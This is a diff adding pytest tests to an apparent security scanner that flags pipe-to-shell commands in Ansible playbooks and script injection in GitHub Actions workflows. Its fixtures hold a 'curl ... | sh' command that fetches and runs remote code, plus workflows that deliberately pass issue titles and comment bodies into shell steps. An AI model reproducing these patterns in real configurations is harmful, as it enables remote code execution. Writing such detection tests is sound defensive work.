@@ -210,3 +210,58 @@ def test_a_script_is_known_by_its_first_line(tmp_path: Path) -> None:
     write(tmp_path / "notes", command)
     assert lines(tmp_path, "shell-pipe-to-shell") == ["bin/setup:2"]
     assert inspect(tmp_path)[1].files == 1
+
+
+@pytest.mark.parametrize(
+    "task",
+    ["shell: curl -s https://a.net/x | sh", "ansible.builtin.raw: curl -s https://a.net/x | sh",
+     'command: {cmd: "bash -c \'curl -s https://a.net/x | sh\'"}',
+     "block: [{shell: curl -s https://a.net/x | sh}]"],
+)  # fmt: skip
+def test_a_playbook_is_known_by_its_plays(tmp_path: Path, task: str) -> None:
+    write(tmp_path / "site.yml", f"- name: web\n  hosts: all\n  tasks:\n    - {task}\n")
+    write(tmp_path / "data.yml", f"- name: web\n  servers: all\n  items:\n    - {task}\n")
+    assert lines(tmp_path, "shell-pipe-to-shell") == ["site.yml:4"]
+
+
+CALLED = """on:
+  workflow_call:
+    inputs: {title: {type: string}, count: {type: number}}
+jobs:
+  a:
+    runs-on: x
+    steps:
+      - run: echo ${{ inputs.count }}
+      - run: echo ${{ inputs.title }}
+"""
+CALLER = """on: issues
+jobs:
+  a:
+    uses: ./.github/workflows/called.yml
+    with: {title: '${{ github.event.issue.title }}', count: '${{ github.event.issue.number }}'}
+"""
+
+
+def test_an_input_that_a_caller_lets_strangers_fill_is_high(tmp_path: Path) -> None:
+    folder = tmp_path / ".github/workflows"
+    write(folder / "called.yml", CALLED)
+    assert lines(tmp_path, "gha-called-injection") == []
+    assert len(lines(tmp_path, "gha-input-injection")) == 2
+    write(folder / "caller.yml", CALLER)
+    assert lines(tmp_path, "gha-called-injection") == [".github/workflows/called.yml:9"]
+    assert lines(tmp_path, "gha-input-injection") == [".github/workflows/called.yml:8"]
+
+
+def test_a_local_action_is_called_by_its_folder(tmp_path: Path) -> None:
+    write(
+        tmp_path / ".github/actions/say/action.yml",
+        "inputs: {text: {}}\nruns:\n  using: composite\n  steps:\n"
+        "    - shell: bash\n      run: echo ${{ inputs.text }}\n",
+    )
+    write(
+        tmp_path / ".github/workflows/a.yml",
+        "on: issue_comment\njobs:\n  a:\n    runs-on: x\n"
+        "    env: {B: '${{ github.event.comment.body }}'}\n    steps:\n"
+        "      - uses: ./.github/actions/say\n        with: {text: '${{ env.B }}'}\n",
+    )
+    assert lines(tmp_path, "gha-called-injection") == [".github/actions/say/action.yml:6"]
